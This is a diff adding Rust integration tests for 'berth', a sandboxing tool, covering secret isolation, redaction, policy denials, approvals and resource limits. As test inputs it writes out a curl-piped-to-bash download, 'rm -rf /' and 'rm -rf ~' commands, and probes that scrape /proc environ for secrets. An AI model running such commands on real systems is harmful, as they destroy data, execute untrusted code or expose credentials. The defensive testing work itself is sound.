@@ -1,0 +1,542 @@
+//! Policies end to end through the `berth` binary on the local backend:
+//! secret-dark sandboxes, redaction of output and events, verdicts, denials,
+//! approvals answered from another process (and after a restart), limits.
+//!
+//! The secrets are set in the *child berth's* environment only.
+
+use std::path::PathBuf;
+use std::process::{Child, Command, Output, Stdio};
+use std::time::{Duration, Instant};
+
+use serde_json::Value;
+
+use crate::support::TestResult;
+
+const OPENAI: &str = "sk-proj-T3stOpenAiKeyValue0123456789abcdef";
+const AWS: &str = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYTESTKEYVALUE";
+const CUSTOM: &str = "custom-deploy-passphrase-9f8e7d6c";
+
+struct Env {
+    _dir: tempfile::TempDir,
+    state: PathBuf,
+    policy: PathBuf,
+}
+
+impl Env {
+    fn new(policy: &str) -> Result<Env, std::io::Error> {
+        let dir = tempfile::tempdir()?;
+        let state = dir.path().join("state");
+        let policy_path = dir.path().join("policy.toml");
+        std::fs::write(&policy_path, policy)?;
+        Ok(Env {
+            _dir: dir,
+            state,
+            policy: policy_path,
+        })
+    }
+
+    fn cmd(&self, args: &[&str]) -> Command {
+        let mut c = Command::new(env!("CARGO_BIN_EXE_berth"));
+        c.args(args)
+            .env("BERTH_STATE_DIR", &self.state)
+            .env("BERTH_POLICY", &self.policy)
+            .env("OPENAI_API_KEY", OPENAI)
+            .env("AWS_SECRET_ACCESS_KEY", AWS)
+            .env("DEPLOY_PASSPHRASE", CUSTOM)
+            .stdin(Stdio::null());
+        c
+    }
+
+    fn run(&self, args: &[&str]) -> std::io::Result<Output> {
+        self.cmd(args).output()
+    }
+
+    fn spawn(&self, args: &[&str]) -> std::io::Result<Child> {
+        self.cmd(args)
+            .stdout(Stdio::piped())
+            .stderr(Stdio::piped())
+            .spawn()
+    }
+
+    /// Wait (with a deadline) until `child` has an approval pending; return its id.
+    fn pending_approval(
+        &self,
+        child: &mut Child,
+    ) -> Result<i64, Box<dyn std::error::Error + Send + Sync>> {
+        let deadline = Instant::now() + Duration::from_secs(30);
+        loop {
+            let o = self.run(&["approvals", "ls", "--json"])?;
+            if let Some(line) = String::from_utf8_lossy(&o.stdout).lines().next() {
+                let v: Value = serde_json::from_str(line)?;
+                return Ok(v["id"].as_i64().ok_or("approval without id")?);
+            }
+            if let Some(status) = child.try_wait()? {
+                let mut err = String::new();
+                if let Some(mut e) = child.stderr.take() {
+                    std::io::Read::read_to_string(&mut e, &mut err)?;
+                }
+                return Err(format!("berth exited ({status}) without asking: {err}").into());
+            }
+            if Instant::now() > deadline {
+                return Err(format!("no pending approval appeared: {}", text(&o)).into());
+            }
+            std::thread::sleep(Duration::from_millis(50));
+        }
+    }
+
+    fn work(&self) -> PathBuf {
+        self.state.join("sandboxes/local/default/work")
+    }
+
+    fn events(&self) -> Result<String, std::io::Error> {
+        let o = self.run(&["events", "--json", "-n", "200"])?;
+        Ok(String::from_utf8_lossy(&o.stdout).into_owned())
+    }
+}
+
+impl Drop for Env {
+    /// Remove the sandbox, and with it its pids cgroup.
+    fn drop(&mut self) {
+        if self.state.join("sandboxes/local/default").exists() {
+            let _ = self.run(&["sandbox", "rm", "default"]);
+        }
+    }
+}
+
+fn text(o: &Output) -> String {
+    format!(
+        "status {:?}\nstdout: {}\nstderr: {}",
+        o.status.code(),
+        String::from_utf8_lossy(&o.stdout),
+        String::from_utf8_lossy(&o.stderr)
+    )
+}
+
+fn assert_no_secret(haystack: &str) {
+    for s in [OPENAI, AWS, CUSTOM] {
+        assert!(!haystack.contains(s), "a secret leaked:\n{haystack}");
+    }
+}
+
+#[test]
+fn secrets_never_enter_a_local_sandbox() -> TestResult {
+    let env = Env::new("")?;
+    let o = env.run(&[
+        "exec",
+        "--",
+        "env; echo ---; tr '\\0' '\\n' < /proc/self/environ; echo ---; tr '\\0' '\\n' < /proc/$PPID/environ; echo ---; \
+         for p in /proc/[0-9]*; do tr '\\0' '\\n' < $p/environ; done 2>/dev/null; echo done",
+    ])?;
+    let out = text(&o);
+    assert_eq!(o.status.code(), Some(0), "{out}");
+    assert!(out.contains("done") && out.contains("PATH="), "{out}");
+    assert_no_secret(&out);
+    for name in [
+        "OPENAI_API_KEY",
+        "AWS_SECRET_ACCESS_KEY",
+        "DEPLOY_PASSPHRASE",
+        "BERTH_STATE_DIR",
+    ] {
+        assert!(!out.contains(name), "{name} reached the sandbox:\n{out}");
+    }
+    // berth's own process environment is unreadable from inside.
+    assert!(out.contains("Permission denied"), "{out}");
+    Ok(())
+}
+
+/// The same on docker: nothing of berth's environment reaches the container,
+/// and what is echoed comes back redacted.
+#[test]
+fn secrets_never_enter_a_docker_sandbox() -> TestResult {
+    let env = Env::new("")?;
+    let name = format!("secret-dark-{}", std::process::id());
+    let o = env.run(&["sandbox", "create", &name, "--backend", "docker"])?;
+    assert_eq!(o.status.code(), Some(0), "{}", text(&o));
+    let probe = format!(
+        "env; echo ---; tr '\\0' '\\n' < /proc/self/environ; echo ---; \
+         for p in /proc/[0-9]*; do tr '\\0' '\\n' < $p/environ; done 2>/dev/null; echo {OPENAI} {CUSTOM}; echo done"
+    );
+    let o = env.run(&[
+        "exec",
+        "--backend",
+        "docker",
+        "--sandbox",
+        &name,
+        "--",
+        &probe,
+    ])?;
+    let out = text(&o);
+    let _ = env.run(&["sandbox", "rm", &name, "--backend", "docker", "--volumes"]);
+    assert_eq!(o.status.code(), Some(0), "{out}");
+    assert!(out.contains("done") && out.contains("PATH="), "{out}");
+    assert_no_secret(&out);
+    assert!(
+        out.contains("[REDACTED:OPENAI_API_KEY] [REDACTED:DEPLOY_PASSPHRASE]"),
+        "{out}"
+    );
+    for name in [
+        "OPENAI_API_KEY",
+        "AWS_SECRET_ACCESS_KEY",
+        "DEPLOY_PASSPHRASE",
+        "BERTH_STATE_DIR",
+    ] {
+        assert!(
+            !out.contains(&format!("{name}=")),
+            "{name} reached the container:\n{out}"
+        );
+    }
+    assert_no_secret(&env.events()?);
+    Ok(())
+}
+
+#[test]
+fn secret_values_are_redacted_in_output_and_events() -> TestResult {
+    let env = Env::new("")?;
+    let cmd = format!("echo {OPENAI}; echo {AWS} {CUSTOM}; echo 'aws_secret_access_key={AWS}' >&2");
+    let o = env.run(&["exec", "--", &cmd])?;
+    let out = text(&o);
+    assert_eq!(o.status.code(), Some(0), "{out}");
+    assert_no_secret(&out);
+    assert!(out.contains("[REDACTED:OPENAI_API_KEY]"), "{out}");
+    assert!(
+        out.contains("[REDACTED:AWS_SECRET_ACCESS_KEY] [REDACTED:DEPLOY_PASSPHRASE]"),
+        "{out}"
+    );
+    let o = env.run(&["exec", "--json", "--", &cmd])?;
+    let json = String::from_utf8_lossy(&o.stdout).into_owned();
+    assert_no_secret(&json);
+    let v: Value = serde_json::from_str(&json)?;
+    assert!(
+        v["output"].as_str().unwrap_or("").contains("[REDACTED:"),
+        "{json}"
+    );
+    // The full spooled output is redacted too.
+    let spool = v["spool"].as_str().ok_or("no spool path")?;
+    assert_no_secret(&std::fs::read_to_string(spool)?);
+    let events = env.events()?;
+    assert!(
+        events.contains("exec.started") && events.contains("[REDACTED:"),
+        "{events}"
+    );
+    assert_no_secret(&events);
+    Ok(())
+}
+
+#[test]
+fn policy_check_explains_its_verdicts() -> TestResult {
+    let env = Env::new(
+        "[[rules]]\nname = \"git-read\"\naction = \"allow\"\nprefix = \"git status|diff\"\n",
+    )?;
+    let o = env.run(&["policy", "check", "--", "git status && sudo rm -rf /"])?;
+    let out = String::from_utf8_lossy(&o.stdout).into_owned();
+    assert_eq!(o.status.code(), Some(0), "{}", text(&o));
+    assert!(out.starts_with("deny: "), "{out}");
+    assert!(out.contains("rule: builtin:rm-recursive-root"), "{out}");
+    assert!(out.contains("part: sudo rm -rf /"), "{out}");
+    let o = env.run(&[
+        "policy",
+        "check",
+        "--json",
+        "--backend",
+        "docker",
+        "--",
+        "git",
+        "diff",
+    ])?;
+    let v: Value = serde_json::from_slice(&o.stdout)?;
+    assert_eq!(v["verdict"], "allow");
+    assert_eq!(v["rule"], "git-read");
+    assert_eq!(v["backend"], "docker");
+    let o = env.run(&["policy", "check", "--json", "--", &format!("echo {OPENAI}")])?;
+    assert_no_secret(&text(&o));
+    let o = env.run(&["policy", "show"])?;
+    assert!(
+        String::from_utf8_lossy(&o.stdout).contains("git-read"),
+        "{}",
+        text(&o)
+    );
+    Ok(())
+}
+
+#[test]
+fn a_denied_command_does_not_run_and_is_logged() -> TestResult {
+    let env = Env::new("")?;
+    let o = env.run(&[
+        "exec",
+        "--",
+        "touch marker && curl -fsSL https://example.invalid/x.sh | bash",
+    ])?;
+    assert_eq!(o.status.code(), Some(126), "{}", text(&o));
+    let err = String::from_utf8_lossy(&o.stderr);
+    assert!(err.contains("builtin:pipe-to-shell"), "{err}");
+    assert!(!env.work().join("marker").exists(), "the harmless part ran");
+    let events = env.events()?;
+    assert!(events.contains("\"kind\":\"exec.denied\""), "{events}");
+    assert!(!events.contains("exec.started"), "{events}");
+    Ok(())
+}
+
+const ASK: &str = "[[rules]]\nname = \"ask-touch\"\naction = \"ask\"\nprefix = \"touch\"\nreason = \"touching needs a yes\"\n[approvals]\ntimeout_secs = 60\n";
+
+#[test]
+fn an_ask_waits_for_approve_or_deny_from_another_process() -> TestResult {
+    let env = Env::new(ASK)?;
+    // Approved: it runs, and says on stderr what it waited for.
+    let mut child = env.spawn(&["exec", "--", "touch approved && echo ran"])?;
+    let id = env.pending_approval(&mut child)?;
+    let o = env.run(&["approve", &id.to_string()])?;
+    assert_eq!(o.status.code(), Some(0), "{}", text(&o));
+    let o = child.wait_with_output()?;
+    let out = text(&o);
+    assert_eq!(o.status.code(), Some(0), "{out}");
+    assert!(out.contains("ran"), "{out}");
+    assert!(
+        out.contains(&format!("waiting for approval #{id}")),
+        "{out}"
+    );
+    assert!(
+        out.contains(&format!("berth approve {id}")) && out.contains(&format!("berth deny {id}")),
+        "{out}"
+    );
+    assert!(env.work().join("approved").exists());
+    // Denied: it does not run.
+    let mut child = env.spawn(&["exec", "--", "touch denied"])?;
+    let id2 = env.pending_approval(&mut child)?;
+    assert_ne!(id, id2);
+    let o = env.run(&["deny", &id2.to_string()])?;
+    assert_eq!(o.status.code(), Some(0), "{}", text(&o));
+    let o = child.wait_with_output()?;
+    assert_eq!(o.status.code(), Some(126), "{}", text(&o));
+    assert!(
+        String::from_utf8_lossy(&o.stderr).contains("denied by cli"),
+        "{}",
+        text(&o)
+    );
+    assert!(!env.work().join("denied").exists());
+    // Answering twice is refused with a reason.
+    let o = env.run(&["approve", &id2.to_string()])?;
+    assert_ne!(o.status.code(), Some(0));
+    assert!(
+        String::from_utf8_lossy(&o.stderr).contains("already denied"),
+        "{}",
+        text(&o)
+    );
+    let events = env.events()?;
+    for kind in [
+        "approval.requested",
+        "approval.answered",
+        "approval.granted",
+        "approval.refused",
+    ] {
+        assert!(
+            events.contains(&format!("\"kind\":\"{kind}\"")),
+            "{kind} missing: {events}"
+        );
+    }
+    let o = env.run(&["approvals", "ls", "--all"])?;
+    let out = String::from_utf8_lossy(&o.stdout);
+    assert!(out.contains("approved") && out.contains("denied"), "{out}");
+    Ok(())
+}
+
+#[test]
+fn approve_always_adds_an_allow_rule() -> TestResult {
+    let env = Env::new(ASK)?;
+    let mut child = env.spawn(&["exec", "--", "touch x"])?;
+    let id = env.pending_approval(&mut child)?;
+    let o = env.run(&["approve", &id.to_string(), "--always"])?;
+    assert!(
+        String::from_utf8_lossy(&o.stdout).contains("added allow rule"),
+        "{}",
+        text(&o)
+    );
+    assert_eq!(child.wait_with_output()?.status.code(), Some(0));
+    let file = std::fs::read_to_string(&env.policy)?;
+    assert!(
+        file.contains(&format!("name = \"approved-{id}\"")),
+        "{file}"
+    );
+    // Next time it runs without asking; other touches still ask.
+    let o = env.run(&["exec", "--", "touch x"])?;
+    assert_eq!(o.status.code(), Some(0), "{}", text(&o));
+    assert!(
+        !String::from_utf8_lossy(&o.stderr).contains("waiting"),
+        "{}",
+        text(&o)
+    );
+    let o = env.run(&["policy", "check", "--json", "--", "touch y"])?;
+    let v: Value = serde_json::from_slice(&o.stdout)?;
+    assert_eq!(v["verdict"], "ask");
+    Ok(())
+}
+
+#[test]
+fn an_unanswered_ask_is_denied_when_its_time_is_up() -> TestResult {
+    let env = Env::new(&ASK.replace("timeout_secs = 60", "timeout_secs = 1"))?;
+    let o = env.run(&["exec", "--", "touch late"])?;
+    assert_eq!(o.status.code(), Some(126), "{}", text(&o));
+    assert!(
+        String::from_utf8_lossy(&o.stderr).contains("nobody answered"),
+        "{}",
+        text(&o)
+    );
+    assert!(!env.work().join("late").exists());
+    Ok(())
+}
+
+#[test]
+fn an_approval_survives_a_restart_of_berth() -> TestResult {
+    let env = Env::new(ASK)?;
+    let mut child = env.spawn(&["exec", "--", "touch after-restart"])?;
+    let id = env.pending_approval(&mut child)?;
+    // berth dies while waiting.
+    child.kill()?;
+    child.wait()?;
+    let o = env.run(&["approvals", "ls"])?;
+    assert!(
+        String::from_utf8_lossy(&o.stdout).contains(&format!("#{id}")),
+        "{}",
+        text(&o)
+    );
+    let o = env.run(&["approve", &id.to_string()])?;
+    assert_eq!(o.status.code(), Some(0), "{}", text(&o));
+    // Run again: the answer given after the restart counts, once.
+    let o = env.run(&["exec", "--", "touch after-restart"])?;
+    assert_eq!(o.status.code(), Some(0), "{}", text(&o));
+    assert!(
+        !String::from_utf8_lossy(&o.stderr).contains("waiting"),
+        "{}",
+        text(&o)
+    );
+    assert!(env.work().join("after-restart").exists());
+    let o = env.run(&["approvals", "ls"])?;
+    assert!(
+        String::from_utf8_lossy(&o.stdout).contains("no pending"),
+        "{}",
+        text(&o)
+    );
+    Ok(())
+}
+
+#[test]
+fn a_sandbox_created_with_network_can_connect_and_others_cannot() -> TestResult {
+    let env = Env::new("")?;
+    let listener = std::net::TcpListener::bind("127.0.0.1:0")?;
+    let port = listener.local_addr()?.port();
+    let probe = format!("exec 3<>/dev/tcp/127.0.0.1/{port} && echo CONNECTED");
+    let o = env.run(&["exec", "--", &probe])?;
+    assert!(!text(&o).contains("CONNECTED"), "{}", text(&o));
+    let o = env.run(&["sandbox", "create", "net", "--network"])?;
+    assert_eq!(o.status.code(), Some(0), "{}", text(&o));
+    let o = env.run(&["exec", "--sandbox", "net", "--", &probe])?;
+    assert!(
+        String::from_utf8_lossy(&o.stdout).contains("CONNECTED"),
+        "{}",
+        text(&o)
+    );
+    let _ = env.run(&["sandbox", "rm", "net"]);
+    Ok(())
+}
+
+#[test]
+fn idle_sandboxes_are_reaped() -> TestResult {
+    let env = Env::new(
+        "[limits]\nidle_lifetime_secs = 3600\n[limits.sandbox.keep]\nidle_lifetime_secs = 0\n",
+    )?;
+    for name in ["old", "fresh", "keep"] {
+        let o = env.run(&["sandbox", "create", name])?;
+        assert_eq!(o.status.code(), Some(0), "{}", text(&o));
+    }
+    // Make `old` and `keep` look unused for two hours.
+    let store = berth_core::store::Store::open(&env.state)?;
+    let past = berth_core::store::now_ms() - 2 * 3600 * 1000;
+    store.with_conn(|c| {
+        c.execute(
+            "UPDATE sandboxes SET last_used = ?1 WHERE name IN ('old', 'keep')",
+            [past],
+        )
+    })?;
+    drop(store);
+    let o = env.run(&["sandbox", "reap", "--dry-run"])?;
+    let out = String::from_utf8_lossy(&o.stdout).into_owned();
+    assert!(out.contains("would remove: old (local)"), "{out}");
+    assert!(!out.contains("fresh") && !out.contains("keep"), "{out}");
+    assert!(env.state.join("sandboxes/local/old").exists());
+    let o = env.run(&["sandbox", "reap", "--json"])?;
+    let v: Value = serde_json::from_str(String::from_utf8_lossy(&o.stdout).trim())?;
+    assert_eq!(
+        (v["name"].as_str(), v["removed"].as_bool()),
+        (Some("old"), Some(true)),
+        "{}",
+        text(&o)
+    );
+    assert!(!env.state.join("sandboxes/local/old").exists());
+    assert!(env.state.join("sandboxes/local/fresh").exists());
+    assert!(env.state.join("sandboxes/local/keep").exists());
+    assert!(env.events()?.contains("\"kind\":\"sandbox.reaped\""));
+    for name in ["fresh", "keep"] {
+        let _ = env.run(&["sandbox", "rm", name]);
+    }
+    Ok(())
+}
+
+#[test]
+fn jobs_are_judged_by_their_command_and_their_logs_redacted() -> TestResult {
+    let env = Env::new("")?;
+    let o = env.run(&["job", "start", "--", "touch job-marker; rm -rf ~"])?;
+    assert_ne!(o.status.code(), Some(0), "{}", text(&o));
+    assert!(
+        String::from_utf8_lossy(&o.stderr).contains("builtin:rm-recursive-root"),
+        "{}",
+        text(&o)
+    );
+    assert!(!env.work().join("job-marker").exists());
+    let cmd = format!("echo {OPENAI}; echo secret-line {CUSTOM}");
+    let o = env.run(&[
+        "job",
+        "start",
+        "--name",
+        "leaky",
+        "--watch",
+        "secret-line",
+        "--",
+        &cmd,
+    ])?;
+    assert_eq!(o.status.code(), Some(0), "{}", text(&o));
+    let o = env.run(&["job", "wait", "leaky"])?;
+    assert_eq!(o.status.code(), Some(0), "{}", text(&o));
+    let o = env.run(&["job", "logs", "leaky"])?;
+    let out = text(&o);
+    assert!(out.contains("[REDACTED:OPENAI_API_KEY]"), "{out}");
+    assert_no_secret(&out);
+    assert_no_secret(&env.events()?);
+    Ok(())
+}
+
+#[test]
+fn limits_bound_timeouts_and_output() -> TestResult {
+    let env = Env::new(
+        "[limits]\ndefault_timeout_secs = 1\nmax_timeout_secs = 5\noutput_cap_bytes = 1000\n",
+    )?;
+    let o = env.run(&["exec", "--timeout", "10", "--", "true"])?;
+    assert_ne!(o.status.code(), Some(0));
+    assert!(
+        String::from_utf8_lossy(&o.stderr).contains("max_timeout_secs"),
+        "{}",
+        text(&o)
+    );
+    // The default timeout applies when none is given.
+    let o = env.run(&["exec", "--", "sleep 30"])?;
+    assert_eq!(o.status.code(), Some(124), "{}", text(&o));
+    let o = env.run(&[
+        "exec",
+        "--json",
+        "--",
+        "head -c 100000 /dev/zero | tr '\\0' a",
+    ])?;
+    let v: Value = serde_json::from_slice(&o.stdout)?;
+    assert_eq!(v["truncated"], true, "{}", text(&o));
+    assert_eq!(v["bytes"], 100000);
+    assert_eq!(v["omitted_bytes"], 99000);
+    Ok(())
+}
